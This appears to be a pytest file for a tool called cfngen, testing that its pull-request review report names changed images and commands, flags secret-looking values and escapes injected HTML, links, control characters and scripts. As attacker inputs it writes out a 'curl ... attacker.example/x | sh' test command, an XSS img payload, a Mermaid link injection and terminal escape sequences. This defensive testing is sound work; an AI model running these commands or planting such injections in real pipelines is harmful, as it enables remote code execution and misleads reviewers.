"""The review shows what runs, and no value can rewrite it (issue 21: "The review cannot see what runs",
"Control characters break the review"). Each test starts from the pull request an attacker would send."""

from __future__ import annotations

import re
import shutil
import subprocess
from html import unescape
from pathlib import Path

import pytest

from cfngen import load_blueprint, synthesize
from cfngen._text import visible
from cfngen.report import review
from cfngen.report._document import Report, _markdown_to_html, markdown_code, markdown_text
from tests.conftest import ROOT

MINIMAL = ROOT / "tests" / "blueprints" / "minimal.yaml"
# Ends the table row, then opens a tilde fence (the Markdown filter escapes backticks, not tildes) that draws
# a diagram of the attacker's with a link, where the reviewer expects the list of IAM permissions gained.
MERMAID_INJECTION = (
    'ok\\r\\r~~~mermaid\\rflowchart TB\\r  A[\\"IAM permissions gained: none\\"]\\r'
    '  click A \\"https://attacker.example/\\"\\r~~~\\r'
)


def _reviewed(tmp_path: Path, service_lines: str) -> Report:
    """The review of the minimal blueprint with `service_lines` added to its service, against the minimal one."""
    changed = tmp_path / "minimal.yaml"
    changed.write_text(MINIMAL.read_text(encoding="utf-8") + service_lines, encoding="utf-8")
    before = synthesize(load_blueprint(MINIMAL))
    return review(synthesize(load_blueprint(changed)), against=before, findings=[])


def test_a_new_image_and_test_command_are_named_in_the_summary(tmp_path: Path) -> None:
    report = _reviewed(
        tmp_path,
        '    image: attacker.example/exfil:latest\n    test_command: "curl -s https://attacker.example/x | sh"\n',
    )
    markdown = report.markdown()
    summary = markdown[: markdown.index("## 1.")]
    # Before, the summary said "0 added, 0 modified" and nothing else; now the build project's record of the
    # test command is modified, and the summary names both.
    assert "0 added, 1 modified, 0 replaced, 0 removed" in summary
    runs = next(line for line in summary.splitlines() if line.startswith("- **What runs**"))
    # The build project carries the generated buildspec, which holds the test command: it changes too.
    assert "3 changes (image, command)" in runs
    assert "`attacker.example/exfil:latest`" in runs and "`curl -s https://attacker.example/x \\| sh`" in runs
    section = markdown[markdown.index("Changes against") :]
    assert (
        "| changed | image: image | `service-web/WebTaskDefinition container web` | "
        "`ghcr.io/mendhak/http-https-echo:38` | `attacker.example/exfil:latest` |"
    ) in section
    assert "| added | command: test command (in the rendered buildspec) | `pipeline-web/WebBuildProject` |" in section


def test_environment_values_are_shown_and_secret_looking_ones_flagged(tmp_path: Path) -> None:
    report = _reviewed(
        tmp_path, "    environment:\n      API_TOKEN: ghp_abcdefghijklmnopqrstuvwxyz1234\n      GREETING: hello\n"
    )
    assert report.changes is not None
    changes = {change.name: change for change in report.changes.runs_changed}
    assert (changes["API_TOKEN"].after, changes["GREETING"].after) == ("ghp_abcdefghijklmnopqrstuvwxyz1234", "hello")
    assert "looks like a secret" in changes["API_TOKEN"].note and not changes["GREETING"].note
    assert "**1 flagged** ⚠️" in report.markdown()


def test_a_hook_is_said_to_lie_outside_the_blueprint(tmp_path: Path) -> None:
    report = _reviewed(tmp_path, "    deploy_hooks:\n      BeforeInstall: anything-in-the-account\n")
    assert report.changes is not None
    (hook,) = [change for change in report.changes.runs_changed if change.kind == "hook"]
    assert "anything-in-the-account" in hook.after and "outside the blueprint" in hook.note


def test_a_carriage_return_cannot_add_a_diagram_or_a_link(tmp_path: Path) -> None:
    report = _reviewed(tmp_path, f'    environment:\n      NOTE: "{MERMAID_INJECTION}"\n')
    markdown = report.markdown()
    assert "\r" not in markdown and "ok\\r\\r~~~mermaid" in markdown
    html = report.html()
    (tmp_path / "clean").mkdir()
    own = _reviewed(tmp_path / "clean", '    environment:\n      NOTE: "ok"\n').html().count('<pre class="mermaid">')
    assert own >= 1 and html.count('<pre class="mermaid">') == own, "only cfngen's own diagrams"
    assert 'href="https://attacker.example' not in html


@pytest.mark.parametrize("char", ["\r", "\x1b", "\x07", "\u2028", "\u2029", "\x85", "\u202e", "\x00"])
def test_control_characters_are_shown_as_escapes_in_every_filter(char: str) -> None:
    for text in (markdown_text(f"a{char}b"), markdown_code(f"a{char}b"), visible(f"a{char}b")):
        assert char not in text and "\\" in text


def test_inline_code_survives_backticks() -> None:
    for value in ("a`b", "``x``", "`", "a ``` b`"):
        html = _markdown_to_html(f"| x |\n|---|\n| {markdown_code(value)} |\n")
        assert f"<code>{value}</code>" in html.replace("<wbr>", ""), (value, html)


def test_raw_html_and_links_are_shown_as_text_except_the_reports_own_tags() -> None:
    html = _markdown_to_html(
        '<img src=x onerror="alert(1)">\n\n<details open>\n<summary>s</summary>\n\n'
        "[click](https://attacker.example/) <https://attacker.example/>\n\n</details>\n"
    )
    assert "<img" not in html and "&lt;img" in html
    assert "<details open>" in html and "<summary>s</summary>" in html
    assert "<a " not in html


def test_the_page_allows_only_its_own_scripts(tmp_path: Path) -> None:
    html = _reviewed(tmp_path, "").html()
    (policy,) = [
        unescape(found) for found in re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
    ]
    assert "default-src 'none'" in policy and "unsafe-inline" not in policy.split("script-src")[1].split(";")[0]
    assert len(re.findall(r"'sha256-[A-Za-z0-9+/=]+'", policy)) == html.count("<script>") == 2


def test_a_browser_runs_the_diagram_but_not_a_script_that_slipped_in(tmp_path: Path) -> None:
    """The hashes match the page's scripts (the diagram renders); an injected inline script is blocked."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        pytest.fail("chromium is not installed: `make test` installs Debian's chromium package")
    html = _reviewed(tmp_path, "").html()
    page = tmp_path / "review.html"
    page.write_text(
        html.replace("<main>", '<main><script>document.body.setAttribute("data-injected", "ran")</script>', 1),
        encoding="utf-8",
    )
    result = subprocess.run(
        [
            chromium,
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-sync",
            f"--user-data-dir={tmp_path / 'profile'}",
            "--host-resolver-rules=MAP * ~NOTFOUND",
            "--virtual-time-budget=30000",
            "--dump-dom",
            page.as_uri(),
        ],
        capture_output=True,
        text=True,
        timeout=180,
        check=False,
    )
    assert 'data-diagram="rendered"' in result.stdout, result.stdout[:500]
    assert "data-injected" not in result.stdout.split("<main>")[0]


def test_an_error_message_shows_control_characters_as_escapes(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """ESC in a path a pull request chose (here a committed link) must not reach the terminal as ESC."""
    from cfngen.cli import main

    folder = tmp_path / "a\x1b[2J\rb"
    folder.mkdir()
    (folder / "schema.json").symlink_to(tmp_path / "elsewhere")
    assert main(["schema", "-o", str(folder / "schema.json")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\r" not in err and "a\\x1b[2J\\rb/schema.json: is a symbolic link" in err


def test_ci_recipes_that_may_comment_install_a_pinned_release() -> None:
    """A job holding a token that writes pull-request comments must not run the pull request's own cfngen."""
    import yaml

    recipes = [
        block
        for block in re.findall(r"```yaml\n(.*?)```", (ROOT / "README.md").read_text(), re.S)
        if "pull-requests: write" in block
    ]
    recipes += [(ROOT / "docs" / "ci" / "github-actions.yml").read_text()]
    installs = [
        line
        for recipe in recipes
        for line in yaml.safe_dump(yaml.safe_load(recipe)).splitlines()
        if "pip install" in line and "checkov" not in line
    ]
    assert installs and all(re.search(r"cfngen==(\d|\$CFNGEN_VERSION)", line) for line in installs), installs
